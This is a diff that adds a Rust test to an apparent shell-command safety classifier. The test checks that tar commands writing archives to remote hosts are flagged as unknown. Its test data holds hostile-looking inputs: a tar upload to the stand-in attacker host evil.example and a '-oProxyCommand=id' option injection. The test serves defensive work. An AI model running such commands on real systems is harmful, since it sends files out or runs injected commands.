@@ -627,6 +627,32 @@ fn network() {
     ]);
 }
 
+/// A remote tar archive's host is where paxutils' `rmt_open__` finds it: after the first
+/// `@` anywhere in the name, even past the colon.
+#[test]
+fn tar_remote_hosts_are_split_as_rmt_splits_them() {
+    let f = fx();
+    for (cmd, host) in [
+        ("tar -cf h:/tmp/a@evil.example src", "to evil.example"),
+        ("tar -cf dev@10.0.0.5:/tmp/out.tar src", "to 10.0.0.5"),
+        ("tar -cf host:out.tgz src", "to host"),
+    ] {
+        let (got, why) = class(&f, cmd);
+        assert_eq!(got, "unknown", "{cmd}");
+        assert!(why.ends_with(host), "{cmd}: {why}");
+    }
+    for cmd in [
+        "tar -cf a@b@c:/tmp/x src",
+        "tar -cf h:/x@a@b src",
+        "tar -cf -oProxyCommand=id:x src",
+        "tar -cf u@:x src",
+    ] {
+        let (got, why) = class(&f, cmd);
+        assert_eq!(got, "unknown", "{cmd}");
+        assert!(why.contains("remote shell reads"), "{cmd}: {why}");
+    }
+}
+
 #[test]
 fn archives() {
     table(&[
